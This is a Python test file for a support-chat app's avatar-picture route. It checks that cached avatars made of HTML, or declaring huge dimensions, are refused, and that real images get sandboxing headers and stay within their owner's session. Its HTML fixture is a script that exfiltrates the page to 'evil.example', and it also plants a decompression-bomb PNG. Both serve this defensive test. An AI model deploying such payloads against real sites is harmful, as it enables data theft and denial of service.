"""The app's picture route (supportchat_app/pictures.py) through the app as `supportchat` builds it, via
NiceGUI's simulated `User`: a cached picture is served by its bytes, never by its name, so an avatar a
customer made of HTML (named .html, or named .png) is never a page on the app's origin; a real picture comes
with nosniff, a sandboxing CSP and a private cache, and only to the session slot whose avatars folder holds it;
the URLs remembered are bounded."""

from __future__ import annotations

import io
import time
from pathlib import Path

import httpx
import pytest
from PIL import Image

from supportchat_app import pictures
from supportchat_app.components.inbox_list import picture_url
from tests.conftest import create_user
from tests.stackproc import StackProcess
from tests.test_app_flows import another_user, app_data, engine_of, running_app, sign_in  # noqa: F401 (the fixture)
from tests.test_images import png_declaring

HTML = b"<!doctype html><script>fetch('/').then(r => r.text()).then(t => fetch('//evil.example', {body: t}))</script>"


def png() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (8, 8), (30, 140, 90)).save(out, "PNG")
    return out.getvalue()


def sandboxed(headers: httpx.Headers) -> bool:
    return headers.get("x-content-type-options") == "nosniff" and "sandbox" in headers.get(
        "content-security-policy", ""
    )


async def test_a_cached_picture_is_served_by_its_bytes_never_as_a_page_and_only_to_its_slot(
    app_data: Path,
    stack: StackProcess,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    tag = time.time_ns() % 10**8
    customer = create_user(stack.db_url, "customer", f"Picture customer {tag}")
    agent = create_user(stack.db_url, "agent", f"Picture agent {tag}")
    async with running_app() as user:
        await sign_in(user, customer)
        other = another_user()
        await sign_in(other, agent)
        mine, theirs_files = engine_of(user).avatars.files, engine_of(other).avatars.files
        # a sync round drops pictures no profile names (these): held off while the test plants and reads them
        async with mine.lock, theirs_files.lock:
            folder = mine.root / "8d0f6c1e-0000-4000-8000-000000000001"
            folder.mkdir(parents=True)
            page, disguised, real = folder / "x.html", folder / "x.png", folder / "avatar-1.png"
            page.write_bytes(HTML)
            disguised.write_bytes(HTML)
            real.write_bytes(png())
            # a decompression bomb (review sec17b): 16000 x 16000 pixels declared, 1 GB for the page to decode; one
            # cached before downloads were checked for it, or planted, is not served either
            bomb = folder / "avatar-bomb.png"
            bomb.write_bytes(png_declaring(16_000, 16_000))
            assert picture_url(None) == "" and picture_url(folder / "missing.png") == ""

            for path in (page, disguised, bomb):
                url = picture_url(path)
                assert url.startswith("/_sc/picture/") and str(app_data) not in url
                answer = await user.http_client.get(url)
                assert answer.status_code == 404, (path.name, answer.status_code, answer.headers.get("content-type"))
                assert "text/html" not in answer.headers.get("content-type", "") and sandboxed(answer.headers)

            answer = await user.http_client.get(picture_url(real))
            assert answer.status_code == 200 and answer.content == real.read_bytes()
            assert answer.headers["content-type"] == "image/png" and sandboxed(answer.headers)
            assert answer.headers["cache-control"] == "private, max-age=3600"

            # the digest is the key: the right name under another digest is nothing
            wrong = picture_url(real).replace("/_sc/picture/", "/_sc/picture/0")
            assert (await user.http_client.get(wrong)).status_code == 404

            # another session slot (another account), or a page with no session, gets nothing for the same URL;
            # the same owner and name in the other slot's own folder are not this file either
            assert (await other.http_client.get(picture_url(real))).status_code == 404, "served across session slots"
            assert (await another_user().http_client.get(picture_url(real))).status_code == 404, "served unsigned"
            theirs = theirs_files.root / folder.name / real.name
            theirs.parent.mkdir(parents=True)
            theirs.write_bytes(png())
            assert (await other.http_client.get(picture_url(real))).status_code == 404
            assert (await other.http_client.get(picture_url(theirs))).status_code == 200

            # the names remembered are bounded, however many pictures are drawn; a forgotten one still serves
            many = [folder / f"avatar-{i}.png" for i in range(2, 40)]
            for path in many:
                path.write_bytes(png())
            for path in many[:12]:
                assert picture_url(path)
            assert len(pictures._urls) > 8
            monkeypatch.setattr(pictures, "MAX_URLS", 8)  # more remembered than the bound: the next draw trims
            for path in many[12:]:
                assert picture_url(path)
            assert len(pictures._urls) <= 8
            assert (await user.http_client.get(picture_url(many[0]))).status_code == 200
